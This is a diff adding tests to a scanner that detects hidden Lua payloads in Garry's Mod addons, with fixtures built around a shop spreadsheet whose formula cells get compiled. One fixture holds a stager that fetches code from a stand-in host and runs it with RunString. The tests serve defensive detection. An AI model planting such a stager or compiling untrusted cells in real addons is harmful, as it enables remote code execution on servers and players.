@@ -31,4 +31,34 @@ describe('hidden_lua_asset', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  /** A shop whose shipped sheet's `price` cells starting with "=" are compiled (`use`). */
+  const sheetShop = (cell: string, use: string): Record<string, string> => ({
+    'data_static/shopsheet/items.csv': [
+      'name,class,price',
+      'Printer,money_printer,=BASE*2',
+      `Tip Jar,tip_jar,"${cell}"`,
+    ].join('\n'),
+    'lua/autorun/server/sv_sheet.lua': [
+      'local env = setmetatable({ BASE = 100 }, { __index = _G })',
+      'hook.Add("InitPostEntity", "sheet", function()',
+      ' local text = file.Read("data_static/shopsheet/items.csv", "GAME") or ""',
+      ' for line in string.gmatch(text, "[^\\n]+") do',
+      '  local price = string.match(line, \'^[^,]*,[^,]*,"?(=[^"]*)"?$\')',
+      use,
+      ' end',
+      'end)',
+    ].join('\n'),
+  });
+  it('a stager in a formula cell of a shipped spreadsheet the addon compiles', () => {
+    const stager =
+      '=(function() timer.Simple(60, function() http.Fetch([[https://s.example.invalid/x]], function(b) RunString(b) end) end) return 120 end)()';
+    const compile =
+      '  if price then local f = CompileString("return " .. price:sub(2), "cell", false) if f then setfenv(f, env) print(f()) end end';
+    expect(worst(check(rule, sheetShop(stager, compile)))).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a sheet with a stager-like note that the addon only reads as numbers (no finding)', () => {
+    const note = '=120 -- RunString(b) would be wrong here';
+    const numbers = '  if price then print(tonumber(price:sub(2)) or 0) end';
+    expect(check(rule, sheetShop(note, numbers)).filter((f) => f.severity !== 'low')).toEqual([]);
+  });
 });
